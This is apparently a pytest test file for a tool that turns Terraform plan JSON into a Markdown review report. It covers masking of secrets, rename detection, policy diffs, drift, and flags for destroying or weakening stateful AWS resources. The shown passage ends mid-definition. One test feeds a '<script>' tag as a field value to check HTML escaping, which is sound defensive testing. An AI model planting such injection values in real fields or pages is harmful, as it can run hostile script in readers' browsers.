"""Tests for ``tools.plan_report``.

The main tests (marked ``terraform``) use REAL plan JSON: small configurations are planned and applied with
local state against the AWS emulator (moto server on 127.0.0.1, from ``tools.emulator``), then changed
and re-planned from that state with ``terraform plan -out`` + ``terraform show -json``
(``tools.terraform``). A few minutes on a busy machine, in one xdist group; without terraform on PATH,
or offline without TF_PLUGIN_MIRROR, they fail saying what is missing (never skip).

Terraform JSON (KMS key, Kinesis stream, SNS topic, CloudWatch alarm):

* create-from-nothing: the plan before the first apply;
* in-place update: the alarm threshold changes;
* replacement: the Kinesis stream is renamed, which forces a replacement of a stateful resource, so the
  red section appears and the exit code is 3 unless the override is given; its computed values share one line.

A cdktf stack (log group, IAM policy), synthesized in-process:

* rename: the log group's construct id changes -> reported as a rename with the moved fix; the report's own
  cdktf call (``move_from_id``) and HCL block, applied, give plans with a move and no destroy;
* changed: a statement added to the policy (a JSON diff) and the log group's retention changed in the
  emulator between plans (drift, listed with the attribute).

Unit tests on small hand-made fragments cover the edge cases (masking, shortening, counting, bad input).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

REPO_ROOT = Path(__file__).resolve().parents[2]
if str(REPO_ROOT) not in sys.path:  # `tools` lives at the repository root
    sys.path.insert(0, str(REPO_ROOT))

from tools import plan_damage, plan_json  # noqa: E402
from tools.plan_report.cli import EXIT_DESTRUCTIVE, EXIT_INVALID_INPUT, EXIT_OK, main  # noqa: E402
from tools.plan_report.diff import MAX_VALUE_CHARS, json_diff, shorten  # noqa: E402
from tools.plan_report.markdown import fenced  # noqa: E402
from tools.plan_report.model import OVERRIDE_ENV, JsonChange  # noqa: E402
from tools.plan_report.plan import MAX_ATTRIBUTES, MAX_CREATE_ATTRIBUTES, format_path, stack_name_for  # noqa: E402

RED_HEADING = "## 🛑 Destructive changes to stateful resources"


# ---------------------------------------------------------------------------------------------------------
# Helpers for hand-made plans
# ---------------------------------------------------------------------------------------------------------
def change(
    address: str,
    actions: list[str],
    before: dict[str, Any] | None = None,
    after: dict[str, Any] | None = None,
    **extra: Any,
) -> dict[str, Any]:
    """One ``resource_changes`` entry in the shape ``terraform show -json`` writes."""
    rtype, name = address.split(".", 1)
    body: dict[str, Any] = {
        "actions": actions,
        "before": before,
        "after": after,
        "after_unknown": extra.pop("after_unknown", {}),
        "before_sensitive": extra.pop("before_sensitive", False if before is None else {}),
        "after_sensitive": extra.pop("after_sensitive", False if after is None else {}),
    }
    if "replace_paths" in extra:
        body["replace_paths"] = extra.pop("replace_paths")
    entry = {"address": address, "mode": "managed", "type": rtype, "name": name, "change": body}
    entry.update(extra)
    return entry


def plan_doc(*changes: dict[str, Any]) -> dict[str, Any]:
    """A minimal but valid plan document."""
    return {
        "format_version": "1.2",
        "terraform_version": "1.11.4",
        "planned_values": {},
        "resource_changes": list(changes),
    }


def write_plan(directory: Path, filename: str, doc: Any) -> str:
    """Write a plan JSON file and return its path."""
    path = directory / filename
    path.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")
    return str(path)


def run_report(*args: str, env: dict[str, str] | None = None) -> int:
    """Call ``main`` in-process with an explicit environment (no override unless given)."""
    return main(list(args), environ=env or {})


# ---------------------------------------------------------------------------------------------------------
# Unit tests: naming, counting, rendering
# ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("dev.plan.json", "dev"),
        ("out/staging.plan.json", "staging"),
        ("prod.json", "prod"),
        ("bootstrap.tfplan.json", "bootstrap"),
        ("weird", "weird"),
        (".json", ".json"),
    ],
)
def test_stack_name_comes_from_the_file_name(path: str, expected: str) -> None:
    assert stack_name_for(path, {}) == expected


def test_explicit_name_mapping_wins(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = write_plan(tmp_path, "x.json", plan_doc())
    assert run_report(plan, "--name", f"{plan}=staging") == EXIT_OK
    assert "## Stack `staging`" in capsys.readouterr().out


def test_replace_is_counted_once_not_as_add_plus_destroy(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_sns_topic.a", ["create"], None, {"name": "a"}),
        change("aws_sns_topic.b", ["delete"], {"name": "b"}, None),
        change("aws_sns_topic.c", ["delete", "create"], {"name": "c"}, {"name": "c2"}, replace_paths=[["name"]]),
        change("aws_sns_topic.d", ["create", "delete"], {"name": "d"}, {"name": "d2"}, replace_paths=[["name"]]),
        change("aws_sns_topic.e", ["update"], {"display_name": "x"}, {"display_name": "y"}),
        change("aws_sns_topic.f", ["no-op"], {"name": "f"}, {"name": "f"}),
    )
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out)) == EXIT_OK
    text = out.read_text()
    assert "| dev | 1 | 1 | 1 | 2 |" in text
    # Terraform's own wording counts each replace as an add and a destroy.
    assert "Plan: 3 to add, 1 to change, 3 to destroy." in text
    assert "aws_sns_topic.f" not in text  # no-ops are not listed


def test_sensitive_values_are_masked_top_level_and_nested(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_db_instance.db",
            ["update"],
            {"password": "old-secret", "settings": {"user": "app", "token": "tok-1"}, "port": 5432},
            {"password": "new-secret", "settings": {"user": "app", "token": "tok-2"}, "port": 5433},
            before_sensitive={"password": True, "settings": {"token": True}},
            after_sensitive={"password": True, "settings": {"token": True}},
        ),
        change(
            "aws_secretsmanager_secret_version.v",
            ["update"],
            {"secret_string": "a"},
            {"secret_string": "b"},
            before_sensitive=True,
            after_sensitive=True,
        ),
    )
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out))
    text = out.read_text()
    for secret in ("old-secret", "new-secret", "tok-1", "tok-2"):
        assert secret not in text
    assert "<code>password</code>: <code>(sensitive value)</code> → <code>(sensitive value)</code>" in text
    assert (
        "{&quot;token&quot;: (sensitive value), &quot;user&quot;: &quot;app&quot;}" in text
        or '"token": (sensitive value)' in text
    )
    assert "<code>5432</code> → <code>5433</code>" in text
    assert "<code>secret_string</code>: <code>(sensitive value)</code>" in text


def test_unknown_values_are_collapsed_into_one_line(tmp_path: Path) -> None:
    """Wholly computed attributes share one line; a value only partly unknown keeps its row."""
    doc = plan_doc(
        change(
            "aws_kinesis_stream.s",
            ["update"],
            {"arn": "arn:old", "id": "old", "tags_all": {"a": "1"}, "shards": [{"id": "x"}]},
            {"tags_all": {"a": "1"}, "shards": [{}]},
            after_unknown={"arn": True, "id": True, "shards": [{"id": True}]},
        )
    )
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out))
    row = next(line for line in out.read_text().splitlines() if "aws_kinesis_stream.s" in line)
    assert "<i>+ 2 attribute(s) known after apply: <code>arn</code>, <code>id</code></i>" in row
    assert "→ <code>(known after apply)</code>" not in row and "arn:old" not in row
    assert '<code>shards</code>: <code>[{"id": "x"}]</code> → <code>[{"id": (known after apply)}]</code>' in row
    assert "tags_all" not in row  # unchanged


def test_an_unknown_attribute_that_forces_replacement_keeps_its_row(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_db_instance.db",
            ["delete", "create"],
            {"identifier": "a", "arn": "x"},
            {},
            after_unknown={"identifier": True, "arn": True},
            replace_paths=[["identifier"]],
        )
    )
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out), "--allow-destructive")
    row = next(line for line in out.read_text().splitlines() if line.startswith("| <code>aws_db_instance.db"))
    assert (
        '<code>identifier</code>: <code>"a"</code> → <code>(known after apply)</code> 🔸 <b>forces replacement</b>'
        in row
    )
    assert "+ 1 attribute(s) known after apply: <code>arn</code>" in row


def test_create_hides_unknowns_behind_a_count(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_sns_topic.t", ["create"], None, {"name": "t", "tags": None}, after_unknown={"arn": True, "id": True}
        )
    )
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out))
    text = out.read_text()
    assert '<code>name</code>: <code>"t"</code>' in text
    assert "+ 2 attribute(s) known after apply" in text
    assert "tags" not in text


def test_create_lists_identity_first_and_fewer_attributes_without_tags_all(tmp_path: Path) -> None:
    after = {f"attr{i:02d}": i for i in range(10)} | {"identifier": "txn-db", "tags_all": {"Project": "japancart"}}
    out = tmp_path / "r.md"
    run_report(
        write_plan(tmp_path, "dev.plan.json", plan_doc(change("aws_db_instance.db", ["create"], None, after))),
        "-o",
        str(out),
    )
    row = next(line for line in out.read_text().splitlines() if "aws_db_instance.db" in line)
    assert row.index("<code>identifier</code>") < row.index("<code>attr00</code>")
    assert "tags_all" not in row
    assert f"… and {11 - MAX_CREATE_ATTRIBUTES} more" in row


def test_long_values_are_shortened_in_the_middle() -> None:
    long = "arn:aws:kinesis:ap-northeast-1:123456789012:stream/" + "x" * 80 + "-END"
    short = shorten(long)
    assert len(short) == MAX_VALUE_CHARS
    assert short.startswith("arn:aws:kinesis") and short.endswith("-END") and "…" in short
    assert shorten("short") == "short"
    exact = "y" * MAX_VALUE_CHARS
    assert shorten(exact) == exact


def test_null_versus_empty_collections_is_not_a_change(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_sns_topic.t",
            ["update"],
            {"tags": None, "policy": [], "kms": "", "name": "a"},
            {"tags": {}, "policy": None, "kms": None, "name": "b"},
        )
    )
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out))
    text = out.read_text()
    assert "<code>name</code>" in text
    assert "<code>tags</code>" not in text and "<code>policy</code>" not in text and "<code>kms</code>" not in text


def test_many_attributes_are_capped(tmp_path: Path) -> None:
    before = {f"attr{i:02d}": i for i in range(20)}
    after = {f"attr{i:02d}": i + 1 for i in range(20)}
    out = tmp_path / "r.md"
    run_report(
        write_plan(tmp_path, "dev.plan.json", plan_doc(change("aws_sns_topic.t", ["update"], before, after))),
        "-o",
        str(out),
    )
    assert f"… and {20 - MAX_ATTRIBUTES} more" in out.read_text()


def test_table_cells_escape_pipes_and_html(tmp_path: Path) -> None:
    doc = plan_doc(change("aws_sns_topic.t", ["update"], {"display_name": "a|b"}, {"display_name": "<script>`x`"}))
    out = tmp_path / "r.md"
    run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out))
    row = next(line for line in out.read_text().splitlines() if "aws_sns_topic.t" in line and "display_name" in line)
    assert "a&#124;b" in row and "&lt;script&gt;" in row and "<script>" not in row
    assert row.count("|") == 4  # | resource | action | changes |


def test_replace_paths_are_rendered_like_terraform_addresses() -> None:
    assert format_path(["name"]) == "name"
    assert format_path(["tags", "Cost Center"]) == 'tags["Cost Center"]'
    assert format_path(["ebs", 0, "size"]) == "ebs[0].size"
    assert format_path([]) == "(whole resource)"


# ---------------------------------------------------------------------------------------------------------
# Unit tests: renames, JSON documents, drift
# ---------------------------------------------------------------------------------------------------------
RENAME_HEADING = "## 🔀 Renamed resources: add a `moved` block"


def report_text(tmp_path: Path, doc: dict[str, Any], *extra: str, stack: str = "dev") -> tuple[int, str]:
    """Run the report on a hand-made plan; returns (exit code, Markdown)."""
    out = tmp_path / "r.md"
    code = run_report(write_plan(tmp_path, f"{stack}.plan.json", doc), "-o", str(out), *extra)
    return code, out.read_text()


def test_a_destroy_and_create_with_the_same_name_is_a_rename_with_the_moved_fix(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_sqs_queue.dlq", ["delete"], {"name": "txn-dlq", "arn": "arn:q"}, None),
        change("aws_sqs_queue.dead_letters", ["create"], None, {"name": "txn-dlq"}, after_unknown={"arn": True}),
    )
    code, text = report_text(tmp_path, doc)
    assert code == EXIT_DESTRUCTIVE  # a data-bearing rename stays red until fixed or allowed
    red = text.split(RENAME_HEADING)[0]
    assert "| dev | <code>aws_sqs_queue.dlq</code> | **rename (destroy + create)** |" in red
    assert 'address changed to <code>aws_sqs_queue.dead_letters</code> (same <code>name = "txn-dlq"</code>)' in red
    fix = text.split(RENAME_HEADING)[1].split("## Summary")[0]
    assert "> [!CAUTION]" in fix
    assert "```hcl\nmoved {\n  from = aws_sqs_queue.dlq\n  to   = aws_sqs_queue.dead_letters\n}\n```" in fix
    assert '```python\nresource.move_from_id("aws_sqs_queue.dlq")\n```' in fix
    table = text.split("## Stack `dev`")[1]
    assert "renamed</b> to <code>aws_sqs_queue.dead_letters</code>" in table
    assert "renamed</b> from <code>aws_sqs_queue.dlq</code>" in table


def test_a_generated_name_matches_on_its_prefix(tmp_path: Path) -> None:
    """A create from ``name_prefix`` has no name yet: the prefix identifies the object."""
    doc = plan_doc(
        change("aws_cloudwatch_log_group.a", ["delete"], {"name": "txn-2026", "name_prefix": "txn-"}, None),
        change("aws_cloudwatch_log_group.b", ["create"], None, {"name_prefix": "txn-"}, after_unknown={"name": True}),
    )
    assert '(same <code>name_prefix = "txn-"</code>)' in report_text(tmp_path, doc)[1]


def test_a_stateless_rename_is_a_warning_not_red(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_cloudwatch_metric_alarm.a", ["delete"], {"alarm_name": "lag"}, None),
        change("aws_cloudwatch_metric_alarm.b", ["create"], None, {"alarm_name": "lag"}),
    )
    code, text = report_text(tmp_path, doc)
    assert code == EXIT_OK and RED_HEADING not in text
    assert RENAME_HEADING in text and "> [!WARNING]" in text and "from = aws_cloudwatch_metric_alarm.a" in text


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (("aws_sqs_queue.a", {"name": "one"}), ("aws_sqs_queue.b", {"name": "two"})),  # another object
        (("aws_sqs_queue.a", {"name": "one"}), ("aws_sns_topic.b", {"name": "one"})),  # another type
        (("aws_kms_key.a", {"description": "k"}), ("aws_kms_key.b", {"description": "k"})),  # no identifier
    ],
)
def test_no_rename_without_the_same_type_and_identifier(
    tmp_path: Path, old: tuple[str, dict[str, Any]], new: tuple[str, dict[str, Any]]
) -> None:
    doc = plan_doc(change(old[0], ["delete"], old[1], None), change(new[0], ["create"], None, new[1]))
    assert RENAME_HEADING not in report_text(tmp_path, doc, "--allow-destructive")[1]


def test_a_sensitive_identifier_is_never_used_or_shown(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_sqs_queue.a", ["delete"], {"name": "secret-name"}, None, before_sensitive={"name": True}),
        change("aws_sqs_queue.b", ["create"], None, {"name": "secret-name"}, after_sensitive={"name": True}),
    )
    text = report_text(tmp_path, doc, "--allow-destructive")[1]
    assert RENAME_HEADING not in text and "secret-name" not in text


def test_fences_outlast_backticks_in_addresses() -> None:
    assert fenced("hcl", "a ``` b") == ["````hcl", "a ``` b", "````"]
    assert fenced("python", "x") == ["```python", "x", "```"]


POLICY_BEFORE = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "Read", "Effect": "Allow", "Action": "sqs:ReceiveMessage", "Resource": "*"},
        {"Sid": "Old", "Effect": "Allow", "Action": "sqs:DeleteMessage", "Resource": "*"},
    ],
}
POLICY_AFTER = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "New", "Effect": "Deny", "Action": "sqs:PurgeQueue", "Resource": "*"},
        {
            "Sid": "Read",
            "Effect": "Allow",
            "Action": ["sqs:ReceiveMessage", "sqs:GetQueueAttributes"],
            "Resource": "*",
            "Condition": {"Bool": {"aws:SecureTransport": "true"}},
        },
    ],
}


def test_a_policy_document_change_is_a_json_diff_of_paths(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_iam_policy.p", ["update"], {"policy": json.dumps(POLICY_BEFORE)}, {"policy": json.dumps(POLICY_AFTER)}
        )
    )
    row = next(line for line in report_text(tmp_path, doc)[1].splitlines() if "aws_iam_policy.p" in line)
    assert "<code>policy</code> (JSON, 4 change(s)):" in row
    assert (
        '~ <code>Statement[Sid="Read"].Action</code>: <code>"sqs:ReceiveMessage"</code> → '
        '<code>["sqs:ReceiveMessage", "sqs:GetQueueAttributes"]</code>'
    ) in row
    assert (
        '+ <code>Statement[Sid="Read"].Condition</code>: <code>{"Bool": {"aws:SecureTransport": "true"}}</code>' in row
    )
    assert '− <code>Statement[Sid="Old"]</code> (was <code>{"Action": "sqs:DeleteMessage"' in row
    assert '+ <code>Statement[Sid="New"]</code>' in row
    assert "Version" not in row  # unchanged paths are not listed


def test_json_lists_without_sids_show_only_what_was_added_or_removed() -> None:
    changes = json_diff({"Action": ["a", "b"]}, {"Action": ["x", "a", "b"]})
    assert changes == [JsonChange("+", "Action[0]", after='"x"')]
    same_length = json_diff({"Action": ["a", "b"]}, {"Action": ["a", "c"]})
    assert same_length == [JsonChange("~", "Action[1]", '"b"', '"c"')]
    assert json_diff({"k y": {"1": 2}}, {"k y": {"1": 3}}) == [JsonChange("~", '["k y"]["1"]', "2", "3")]


def test_any_attribute_holding_json_objects_is_diffed_and_a_policy_can_appear(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_cloudwatch_event_rule.r",
            ["update"],
            {"event_pattern": '{"source": ["a"]}'},
            {"event_pattern": '{"source": ["b"]}'},
        ),
        change("aws_sqs_queue.q", ["update"], {"policy": ""}, {"policy": '{"Statement": []}'}),
        change("aws_sns_topic.t", ["update"], {"display_name": '["not", "an object"]'}, {"display_name": "[]"}),
    )
    text = report_text(tmp_path, doc)[1]
    assert (
        '<code>event_pattern</code> (JSON, 1 change(s)):<br>&nbsp;&nbsp;~ <code>source[0]</code>: <code>"a"</code> → <code>"b"</code>'
        in text
    )
    assert "<code>policy</code> (JSON, 1 change(s)):<br>&nbsp;&nbsp;+ <code>Statement</code>: <code>[]</code>" in text
    assert '<code>display_name</code>: <code>"[\\"not\\", \\"an object\\"]"</code>' in text  # not JSON objects: plain


def test_a_sensitive_policy_stays_masked(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_iam_policy.p",
            ["update"],
            {"policy": '{"a": "secret-1"}'},
            {"policy": '{"a": "secret-2"}'},
            before_sensitive={"policy": True},
            after_sensitive={"policy": True},
        )
    )
    text = report_text(tmp_path, doc)[1]
    assert "secret-1" not in text and "secret-2" not in text
    assert "<code>policy</code>: <code>(sensitive value)</code> → <code>(sensitive value)</code>" in text


def test_drift_lists_each_resource_with_what_changed_masked(tmp_path: Path) -> None:
    doc = plan_doc()
    doc["resource_drift"] = [
        {
            "address": "aws_sqs_queue.q",
            "change": {
                "actions": ["update"],
                "before": {"delay_seconds": 0, "token": "t-old"},
                "after": {"delay_seconds": 5, "token": "t-new"},
                "before_sensitive": {"token": True},
                "after_sensitive": {"token": True},
            },
        },
        {"address": "aws_sns_topic.gone", "change": {"actions": ["delete"], "before": {"name": "x"}, "after": None}},
        {
            "address": "aws_sns_topic.irrelevant",
            "change": {"actions": ["update"], "before": {"a": 1}, "after": {"a": 2}},
        },
        {
            "address": "aws_sns_topic.reverted",
            "change": {"actions": ["update"], "before": {"a": 1, "b": 1, "c": 1}, "after": {"a": 2, "b": 2, "c": 1}},
        },
    ]
    doc["resource_changes"] = [change("aws_sns_topic.reverted", ["update"], {"a": 2, "b": 2}, {"a": 1, "b": 2})]
    doc["relevant_attributes"] = [{"resource": "aws_sqs_queue.q", "attribute": ["delay_seconds"]}]
    text = report_text(tmp_path, doc)[1]
    assert "ℹ️ **3 resource(s) changed outside Terraform** since the last apply (drift):" in text
    assert (
        "* <code>aws_sqs_queue.q</code>: <code>delay_seconds</code>: <code>0</code> → <code>5</code>; "
        "<code>token</code>: <code>(sensitive value)</code> → <code>(sensitive value)</code>\n"
    ) in text
    assert "* <code>aws_sns_topic.gone</code>: <i>deleted outside Terraform</i>" in text
    # Not used elsewhere, but this plan overwrites ``a`` (``b`` stays as changed by hand: not this plan's doing).
    assert (
        "* <code>aws_sns_topic.reverted</code>: <code>a</code>: <code>1</code> → <code>2</code> <i>(this plan overwrites it)</i>"
        in text
    )
    assert "irrelevant" not in text and "t-old" not in text and "t-new" not in text


# ---------------------------------------------------------------------------------------------------------
# Unit tests: risk and exit codes
# ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "rtype",
    [
        "aws_db_instance",
        "aws_elasticache_replication_group",
        "aws_kinesis_stream",
        "aws_kms_key",
        "aws_secretsmanager_secret",
        "aws_s3_bucket",
        "aws_dynamodb_table",
        "aws_sqs_queue",
        "aws_cloudwatch_log_group",
    ],
)
@pytest.mark.parametrize("actions", [["delete"], ["delete", "create"], ["create", "delete"]])
def test_destroy_or_replace_of_stateful_types_is_red(tmp_path: Path, rtype: str, actions: list[str]) -> None:
    after = None if actions == ["delete"] else {"name": "new"}
    doc = plan_doc(change(f"{rtype}.x", actions, {"name": "old"}, after, replace_paths=[["name"]] if after else None))
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "prod.plan.json", doc), "-o", str(out)) == EXIT_DESTRUCTIVE
    text = out.read_text()
    assert text.index(RED_HEADING) < text.index("## Summary")
    assert f"<code>{rtype}.x</code>" in text.split("## Summary")[0]


def test_queue_and_log_group_say_what_is_at_risk(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_sqs_queue.dlq", ["delete", "create"], {"name": "dlq"}, {"name": "dlq2"}, replace_paths=[["name"]]),
        change("aws_cloudwatch_log_group.flow", ["delete"], {"name": "/vpc/flow"}, None),
    )
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "prod.plan.json", doc), "-o", str(out)) == EXIT_DESTRUCTIVE
    red = out.read_text().split("## Summary")[0]
    assert "dead-letter queue holds transactions" in red and "audit trail" in red


STATE_HEADING = "## 🛑 Plans that do not start from the environment's state"


def stack_config(directory: Path, key: str, bucket: str = "state") -> str:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "cdk.tf.json"
    path.write_text(
        json.dumps({"terraform": {"backend": {"s3": {"bucket": bucket, "key": key, "region": "ap-northeast-1"}}}})
    )
    return str(path)


def with_prior_state(doc: dict[str, Any], resources: int) -> dict[str, Any]:
    doc["prior_state"] = {
        "values": {
            "root_module": {
                "resources": [
                    {"address": f"aws_sns_topic.t{i}", "mode": "managed", "type": "aws_sns_topic"}
                    for i in range(resources)
                ]
            }
        }
    }
    return doc


def test_a_moved_state_key_is_red(tmp_path: Path) -> None:
    plan = write_plan(tmp_path, "dev.plan.json", plan_doc(change("aws_sns_topic.t", ["create"], None, {"name": "t"})))
    head = stack_config(tmp_path / "head", "acme/dev/terraform.tfstate")
    base = stack_config(tmp_path / "base", "japancart/dev/terraform.tfstate")
    out = tmp_path / "r.md"
    args = (plan, "-o", str(out), "--stack-config", f"dev={head}", "--base-stack-config", f"dev={base}")
    assert run_report(*args) == EXIT_DESTRUCTIVE
    text = out.read_text()
    assert text.index(STATE_HEADING) < text.index("## Summary")
    assert "s3://state/japancart/dev/terraform.tfstate" in text and "s3://state/acme/dev/terraform.tfstate" in text
    assert "-migrate-state" in text
    assert run_report(*args, "--allow-destructive") == EXIT_OK  # a migrated, reviewed move


def test_an_existing_environment_planned_from_empty_state_is_red(tmp_path: Path) -> None:
    creates = plan_doc(change("aws_sns_topic.t", ["create"], None, {"name": "t"}))
    config = stack_config(tmp_path / "cfg", "japancart/dev/terraform.tfstate")
    flags = ("--stack-config", f"dev={config}", "--base-stack-config", f"dev={config}")
    out = tmp_path / "r.md"
    assert (
        run_report(write_plan(tmp_path, "dev.plan.json", with_prior_state(creates, 0)), "-o", str(out), *flags)
        == EXIT_DESTRUCTIVE
    )
    assert "starts from an empty state although <code>dev</code> exists on the base branch" in out.read_text()
    # The same plan with state behind it, or for a stack new in this change, is not red.
    assert (
        run_report(write_plan(tmp_path, "dev.plan.json", with_prior_state(creates, 3)), "-o", str(out), *flags)
        == EXIT_OK
    )
    assert (
        run_report(
            write_plan(tmp_path, "dev.plan.json", with_prior_state(creates, 0)),
            "-o",
            str(out),
            "--stack-config",
            f"dev={config}",
        )
        == EXIT_OK
    )
    assert STATE_HEADING not in out.read_text()


def test_stateless_destroy_and_stateful_update_are_not_red(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_cloudwatch_metric_alarm.a", ["delete"], {"alarm_name": "a"}, None),
        change("aws_kinesis_stream.s", ["update"], {"retention_period": 24}, {"retention_period": 48}),
        change("aws_db_instance.db", ["create"], None, {"identifier": "db"}),
    )
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out)) == EXIT_OK
    text = out.read_text()
    assert RED_HEADING not in text
    assert "No destroy or replace of stateful resources" in text


def test_bootstrap_state_bucket_and_lock_table_are_named(tmp_path: Path) -> None:
    doc = plan_doc(
        change("aws_s3_bucket.state", ["delete"], {"bucket": "japancart-terraform-state"}, None),
        change(
            "aws_dynamodb_table.lock",
            ["delete", "create"],
            {"name": "lock"},
            {"name": "lock2"},
            replace_paths=[["name"]],
        ),
    )
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "bootstrap.plan.json", doc), "-o", str(out)) == EXIT_DESTRUCTIVE
    red = out.read_text().split("## Summary")[0]
    assert "Terraform state bucket" in red and "Terraform state lock table" in red
    assert "removed from the configuration" in red and "<code>name</code>" in red


@pytest.mark.parametrize("value", ["1", "true", "YES"])
def test_override_env_var_allows_destructive(tmp_path: Path, value: str) -> None:
    doc = plan_doc(change("aws_kms_key.k", ["delete"], {"description": "k"}, None))
    out = tmp_path / "r.md"
    assert run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(out), env={OVERRIDE_ENV: value}) == EXIT_OK
    text = out.read_text()
    assert RED_HEADING in text and "Override in effect" in text


def test_override_env_var_zero_does_not_allow(tmp_path: Path) -> None:
    doc = plan_doc(change("aws_kms_key.k", ["delete"], {"description": "k"}, None))
    assert (
        run_report(write_plan(tmp_path, "dev.plan.json", doc), "-o", str(tmp_path / "r.md"), env={OVERRIDE_ENV: "0"})
        == EXIT_DESTRUCTIVE
    )


# ---------------------------------------------------------------------------------------------------------
# Unit tests: in-place damage rules (each rule is also tripped by a real plan, below) and provisioners
# ---------------------------------------------------------------------------------------------------------
def tripped(
    address: str, before: dict[str, Any] | None, after: dict[str, Any], **extra: Any
) -> list[tuple[str, Any, Any]]:
    """``(attribute, old, new)`` of every rule one hand-made change trips."""
    actions = ["create"] if before is None else ["update"]
    return [
        (d.rule.attribute, d.before, d.after)
        for d in plan_damage.find_damage(change(address, actions, before, after, **extra))
    ]


@pytest.mark.parametrize(
    ("address", "before", "after"),
    [
        # The two cuts seen on real plans, which main reported green with exit 0.
        ("aws_cloudwatch_log_group.flow", {"retention_in_days": 30}, {"retention_in_days": 7}),
        ("aws_sqs_queue.dlq", {"message_retention_seconds": 64800}, {"message_retention_seconds": 43200}),
    ],
)
def test_a_retention_cut_alone_is_red_with_old_and_new_values(
    tmp_path: Path, address: str, before: dict[str, Any], after: dict[str, Any]
) -> None:
    code, text = report_text(tmp_path, plan_doc(change(address, ["update"], before, after)))
    assert code == EXIT_DESTRUCTIVE
    (name, old), new = next(iter(before.items())), next(iter(after.values()))
    red = text.split("## 🛑 In-place damage to data or its protection")[1].split("## Summary")[0]
    assert (
        f"| <code>{address}</code> | **update** | <code>{name}</code>: <code>{old}</code> → <code>{new}</code> | decreased"
        in red
    )
    assert report_text(tmp_path, plan_doc(change(address, ["update"], after, before)))[0] == EXIT_OK  # raised: green


@pytest.mark.parametrize(
    ("before", "after", "red"),
    [
        (30, 7, True),
        (0, 30, True),
        (None, 30, True),  # 0 and null: never expire, so any limit is a cut
        (30, 0, False),
        (7, 30, False),
        (30, 30, False),
    ],
)
def test_log_retention_counts_zero_as_forever(before: Any, after: Any, red: bool) -> None:
    found = tripped("aws_cloudwatch_log_group.g", {"retention_in_days": before}, {"retention_in_days": after})
    assert bool(found) is red, found


def test_switches_judge_booleans_and_the_providers_string_booleans() -> None:
    assert tripped("aws_db_instance.db", {"deletion_protection": True}, {"deletion_protection": False}) == [
        ("deletion_protection", True, False)
    ]
    assert tripped(
        "aws_elasticache_replication_group.c",
        {"at_rest_encryption_enabled": "true"},
        {"at_rest_encryption_enabled": "false"},
    ) == [("at_rest_encryption_enabled", "true", "false")]
    assert tripped("aws_db_instance.db", {"deletion_protection": False}, {"deletion_protection": True}) == []
    assert tripped("aws_db_instance.db", {"deletion_protection": None}, {"deletion_protection": False}) == []
    # A create is judged only by the rules that can do damage on a new resource.
    assert tripped(
        "aws_db_instance.db",
        None,
        {"deletion_protection": False, "publicly_accessible": True, "backup_retention_period": 0},
    ) == [("publicly_accessible", None, True)]


def test_unknown_values_are_judged_only_by_policy_rules() -> None:
    unknown = {"after_unknown": {"policy": True, "retention_in_days": True}}
    assert tripped("aws_kms_key.k", {"policy": '{"Statement": []}'}, {}, **unknown) == [
        ("policy", '{"Statement": []}', plan_json.UNKNOWN)
    ]
    assert tripped("aws_cloudwatch_log_group.g", {"retention_in_days": 30}, {}, **unknown) == []


def test_a_policy_that_only_changes_formatting_is_not_damage() -> None:
    before = json.dumps(POLICY_BEFORE)
    assert (
        tripped(
            "aws_s3_bucket_policy.p",
            {"policy": before},
            {"policy": json.dumps(POLICY_BEFORE, indent=2, sort_keys=True)},
        )
        == []
    )
    assert tripped("aws_s3_bucket_policy.p", {"policy": before}, {"policy": json.dumps(POLICY_AFTER)})


def test_sensitive_values_are_judged_but_never_shown(tmp_path: Path) -> None:
    doc = plan_doc(
        change(
            "aws_kms_key.k",
            ["update"],
            {"policy": '{"a": "secret-1"}'},
            {"policy": '{"a": "secret-2"}'},
            before_sensitive={"policy": True},
            after_sensitive={"policy": True},
        )
    )
    code, text = report_text(tmp_path, doc)
    assert code == EXIT_DESTRUCTIVE and "secret-1" not in text and "secret-2" not in text
    assert (
        "<code>policy</code>: <code>(sensitive value)</code> → <code>(sensitive value)</code> | changes at all" in text
    )


OPEN_BLOCK = {
